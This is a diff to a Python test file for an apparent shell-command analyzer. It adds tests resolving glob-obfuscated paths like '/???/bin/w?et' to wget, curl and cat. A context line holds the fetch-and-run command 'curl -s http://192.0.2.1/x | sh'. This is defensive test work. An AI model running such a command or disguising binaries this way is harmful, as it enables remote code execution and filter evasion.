@@ -127,6 +127,24 @@ def test_a_tool_is_shown_what_was_put_into_the_directory_that_it_is_given() -> N
     assert read(text).acts[-1].code == ['{"scripts":{"x":"id"}}\n']
 
 
+@pytest.mark.parametrize(
+    ("glob", "meant"),
+    [
+        ("/???/bin/w?et", "/usr/bin/wget"),
+        ("/bin/c[!x]t", "/bin/cat"),
+        ("/*/*/[c]url", "/usr/bin/curl"),
+        ("/bin/[a-c]?t", "/bin/cat"),
+        ("/bin/[z-a]?t", "/bin/[z-a]?t"),
+        ("/bin/[.]?t", "/bin/[.]?t"),
+        ("/bin/[[]?", "/bin/[[]?"),
+        ("/t?p/.x/y", "/tmp/.x/y"),
+        ("/srv/*", "/srv/*"),
+    ],
+)
+def test_a_glob_means_what_is_well_known_or_stays_as_written(glob: str, meant: str) -> None:
+    assert last(f"x {glob}") == ["x", meant]
+
+
 def test_a_pipeline_knows_its_neighbours() -> None:
     curl, shell = read("curl -s http://192.0.2.1/x | sh").acts
     assert (curl.after, [act.name for act in shell.before]) == (["sh"], ["curl"])
